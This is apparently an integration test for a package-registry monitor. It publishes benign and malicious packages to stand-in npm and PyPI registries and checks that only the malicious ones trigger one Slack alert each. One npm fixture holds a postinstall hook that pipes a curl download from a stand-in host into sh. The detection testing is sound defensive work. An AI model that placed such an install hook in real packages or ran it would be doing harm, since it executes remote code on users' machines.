import { startPypiStandIn } from '@weir/registries/pypi/stand-in';
import { expect, test, vi } from 'vitest';
import { startProgram } from '../lib/program.ts';
import { uploadAttack, uploadOrdinary } from '../lib/pypi-load.ts';
import { startTestWorld } from '../lib/world.ts';

const PATIENCE = { timeout: 60_000, interval: 100 };

test('weir monitor follows npm and PyPI together: an attack on either is told to Slack, once', async () => {
  await using world = await startTestWorld('embedded');
  await using pypi = await startPypiStandIn({ behaviour: { listCacheSeconds: 0 } });
  pypi.world.upload({ name: 'was-there', version: '1.0', time: '2020-01-01T00:00:00Z' });
  const program = startProgram(['monitor'], {
    ...world.env,
    WEIR_PYPI_URL: pypi.url,
    WEIR_PYPI_POLL_MS: '200',
    WEIR_POLL_MS: '200',
    WEIR_LOG_LEVEL: 'warn',
  });
  const messagesOf = (name: string): readonly string[] =>
    world.slack.requests.map(({ body }) => body).filter((body) => body.includes(name));
  try {
    await vi.waitFor(async () => {
      expect((await world.store.sweeps.find('pypi'))?.baselineAt).toBeInstanceOf(Date);
      expect(await world.store.feeds.findCheckpoint('npmjs', new Date(8.64e15))).not.toBeNull();
    }, PATIENCE);

    uploadOrdinary(pypi, 'quiet-tool');
    uploadAttack(pypi, 'loud-tool');
    world.standIn.world.publish([{ name: 'quiet-npm', version: '1.0.0' }]);
    world.standIn.world.publish([
      {
        name: 'loud-npm',
        version: '1.0.0',
        manifest: { scripts: { postinstall: 'curl -s https://collect.weir.invalid/x | sh' } },
      },
    ]);

    await vi.waitFor(() => {
      expect([messagesOf('loud-tool').length, messagesOf('loud-npm').length]).toEqual([1, 1]);
    }, PATIENCE);
    expect(messagesOf('loud-tool')[0]).toContain('pkg:pypi/loud-tool@1.0');
    expect(messagesOf('loud-npm')[0]).toContain('pkg:npm/loud-npm@1.0.0');
    await vi.waitFor(async () => {
      const rows = await world.store.verdicts.listSince('0', 100);
      expect(rows.map(({ purl }) => purl).toSorted()).toEqual([
        'pkg:npm/loud-npm@1.0.0',
        'pkg:npm/quiet-npm@1.0.0',
        'pkg:pypi/loud-tool@1.0',
        'pkg:pypi/quiet-tool@1.0',
        'pkg:pypi/quiet-tool@1.0',
      ]);
    }, PATIENCE);
    expect(messagesOf('quiet-').length).toBe(0);
  } finally {
    program.kill('SIGTERM');
    await program.exit;
  }
});
